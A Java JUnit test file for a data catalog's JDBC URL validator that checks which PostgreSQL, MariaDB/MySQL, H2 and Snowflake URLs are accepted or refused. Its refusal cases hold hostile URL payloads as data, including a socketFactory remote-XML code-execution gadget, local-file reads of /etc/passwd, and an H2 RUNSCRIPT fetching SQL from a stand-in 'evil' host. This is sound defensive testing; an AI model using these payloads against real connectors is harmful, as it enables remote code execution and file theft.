package dev.coffer.catalog;

import java.sql.Driver;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import dev.coffer.api.error.ValidationFailedException;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Which JDBC URLs each data source type accepts, and which it refuses before a driver sees them. */
class JdbcUrlsTest {

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:postgresql://db.internal:5432/orders", "jdbc:postgresql://10.0.0.5/orders?sslmode=verify-full",
			"jdbc:postgresql://a:5432,b:5433/orders?targetServerType=primary&ApplicationName=x",
			"jdbc:postgresql://[::1]:5432/orders", "jdbc:postgresql://localhost/orders?currentSchema=shop&ssl=true" })
	void postgresqlAcceptsPlainUrlsWithHarmlessParameters(String url) {
		JdbcUrls.Target target = JdbcUrls.check(DataSourceType.POSTGRESQL, url);
		assertThat(target.database()).isEqualTo("orders");
		assertThat(target.driverUrl()).isEqualTo(url);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', value = {
			"jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x/y.xml|forbidden_parameter",
			"jdbc:postgresql://h/db?sslfactory=com.example.Evil|forbidden_parameter",
			"jdbc:postgresql://h/db?sslhostnameverifier=com.example.Evil|forbidden_parameter",
			"jdbc:postgresql://h/db?loggerFile=/tmp/x.log&loggerLevel=TRACE|forbidden_parameter",
			"jdbc:postgresql://h/db?authenticationPluginClassName=com.example.Evil|forbidden_parameter",
			"jdbc:postgresql://h/db?SOCKETFACTORY=x|forbidden_parameter",
			"jdbc:postgresql://h/db?sslkey=/etc/passwd|forbidden_parameter",
			"jdbc:postgresql://h/db?service=mine|forbidden_parameter",
			"jdbc:postgresql://h/db?options=-c%20search_path%3Dx|forbidden_parameter",
			"jdbc:postgresql://h/db?password=hunter2|credentials_in_url",
			"jdbc:postgresql://h/db?user=admin|credentials_in_url",
			"jdbc:postgresql://h/db?sslmode=bogus|invalid_parameter_value",
			"jdbc:postgresql://h/db?ssl=true&ssl=false|forbidden_parameter",
			"jdbc:postgresql:db|invalid_format",
			"jdbc:postgresql://user:pw@h/db|invalid_host",
			"jdbc:postgresql://h:99999/db|invalid_host",
			"jdbc:mysql://h/db|invalid_format",
			"jdbc:postgresql://h/db;foo=bar|invalid_format" })
	void postgresqlRefusesDangerousOrMalformedUrls(String url, String code) {
		assertRefused(DataSourceType.POSTGRESQL, url, code);
	}

	@Test
	void mysqlUrlsGoToMariaDbConnectorJ() {
		assertThat(JdbcUrls.check(DataSourceType.MYSQL, "jdbc:mysql://h:3306/shop?sslMode=verify-full").driverUrl())
			.isEqualTo("jdbc:mariadb://h:3306/shop?sslMode=verify-full");
		JdbcUrls.Target maria = JdbcUrls.check(DataSourceType.MYSQL, "jdbc:mariadb://h");
		assertThat(maria.driverUrl()).isEqualTo("jdbc:mariadb://h");
		assertThat(maria.database()).isNull();
		assertThat(maria.hosts()).containsExactly(new JdbcUrls.HostPort("h", 3306));
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', value = {
			"jdbc:mariadb://h/db?allowLoadLocalInfile=true|forbidden_parameter",
			"jdbc:mariadb://h/db?allowLocalInfile=true|forbidden_parameter",
			"jdbc:mariadb://h/db?socketFactory=com.example.Evil|forbidden_parameter",
			"jdbc:mariadb://h/db?serverRsaPublicKeyFile=/etc/passwd|forbidden_parameter",
			"jdbc:mariadb://h/db?localSocket=/var/run/mysqld/mysqld.sock|forbidden_parameter",
			"jdbc:mariadb://h/db?credentialType=ENV|forbidden_parameter",
			"jdbc:mariadb://h/db?sessionVariables=sql_mode=x|forbidden_parameter",
			"jdbc:mariadb://h/db?permitMysqlScheme|forbidden_parameter",
			"jdbc:mariadb:replication://h1,h2/db|invalid_format",
			"jdbc:mariadb://address=(host=h)(port=3306)/db|invalid_host",
			"jdbc:mysql://h/db?pwd=x|credentials_in_url" })
	void mysqlRefusesDangerousUrls(String url, String code) {
		assertRefused(DataSourceType.MYSQL, url, code);
	}

	@Test
	void h2AcceptsOnlyARemoteServerWithoutSettings() {
		assertThat(JdbcUrls.check(DataSourceType.H2, "jdbc:h2:tcp://localhost:9092/~/sales").database()).isEqualTo("~/sales");
		assertThat(JdbcUrls.check(DataSourceType.H2, "jdbc:h2:ssl://h2.internal/data/sales").hosts())
			.containsExactly(new JdbcUrls.HostPort("h2.internal", 9092));
		assertRefused(DataSourceType.H2, "jdbc:h2:mem:x", "invalid_format");
		assertRefused(DataSourceType.H2, "jdbc:h2:file:/tmp/x", "invalid_format");
		assertRefused(DataSourceType.H2, "jdbc:h2:/tmp/x", "invalid_format");
		assertRefused(DataSourceType.H2, "jdbc:h2:tcp://h/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "invalid_format");
		assertRefused(DataSourceType.H2, "jdbc:h2:tcp://h/x;INIT=RUNSCRIPT%20FROM%20'http://evil/x.sql'", "forbidden_parameter");
		assertRefused(DataSourceType.H2, "jdbc:h2:tcp://h/x;IFEXISTS=TRUE", "forbidden_parameter");
		assertRefused(DataSourceType.H2, "jdbc:h2:tcp://h/../../etc/x", "invalid_format");
	}

	@Test
	void snowflakeNeedsItsOwnHostAndADatabase() {
		JdbcUrls.Target target = JdbcUrls.check(DataSourceType.SNOWFLAKE,
				"jdbc:snowflake://xy12345.eu-central-1.snowflakecomputing.com/?db=SALES&warehouse=WH&role=READER&schema=PUBLIC");
		assertThat(target.database()).isEqualTo("SALES");
		assertThat(target.hosts()).containsExactly(new JdbcUrls.HostPort("xy12345.eu-central-1.snowflakecomputing.com", 443));
		assertRefused(DataSourceType.SNOWFLAKE, "jdbc:snowflake://evil.example.com/?db=X", "invalid_format");
		assertRefused(DataSourceType.SNOWFLAKE, "jdbc:snowflake://acc.snowflakecomputing.com/?warehouse=WH", "required_parameter");
		assertRefused(DataSourceType.SNOWFLAKE, "jdbc:snowflake://acc.snowflakecomputing.com/?db=X&authenticator=externalbrowser",
				"forbidden_parameter");
		assertRefused(DataSourceType.SNOWFLAKE, "jdbc:snowflake://acc.snowflakecomputing.com/?db=X&private_key_file=/etc/key",
				"forbidden_parameter");
		assertRefused(DataSourceType.SNOWFLAKE, "jdbc:snowflake://acc.snowflakecomputing.com/?db=X&tracing=ALL",
				"forbidden_parameter");
		assertRefused(DataSourceType.SNOWFLAKE, "jdbc:snowflake://acc.snowflakecomputing.com/?db=X&password=p", "credentials_in_url");
	}

	@Test
	void urlsMustBePrintableAsciiOfBoundedLength() {
		assertRefused(DataSourceType.POSTGRESQL, "jdbc:postgresql://h/db?ApplicationName=a b", "invalid_format");
		assertRefused(DataSourceType.POSTGRESQL, "jdbc:postgresql://h/" + "d".repeat(3000), "invalid_format");
		assertRefused(DataSourceType.POSTGRESQL, "", "required");
	}

	@Test
	void everyDriverLoadsAndAcceptsItsUrl() throws Exception {
		for (var type : List.of(DataSourceType.POSTGRESQL, DataSourceType.MYSQL, DataSourceType.H2, DataSourceType.SNOWFLAKE)) {
			Driver driver = (Driver) Class.forName(type.driverClass()).getDeclaredConstructor().newInstance();
			String url = switch (type) {
				case POSTGRESQL -> "jdbc:postgresql://h/db";
				case MYSQL -> "jdbc:mariadb://h/db";
				case H2 -> "jdbc:h2:tcp://h/db";
				case SNOWFLAKE -> "jdbc:snowflake://acc.snowflakecomputing.com/?db=X";
			};
			assertThat(driver.acceptsURL(url)).as(type.apiName()).isTrue();
		}
	}

	private static void assertRefused(DataSourceType type, String url, String code) {
		assertThatThrownBy(() -> JdbcUrls.check(type, url)).as(url)
			.isInstanceOfSatisfying(ValidationFailedException.class, ex -> {
				assertThat(ex.errors().get(0).field()).isEqualTo("jdbc_url");
				assertThat(ex.errors().get(0).code()).as(url).isEqualTo(code);
				assertThat(ex.getMessage()).doesNotContain("hunter2");
			});
	}
}
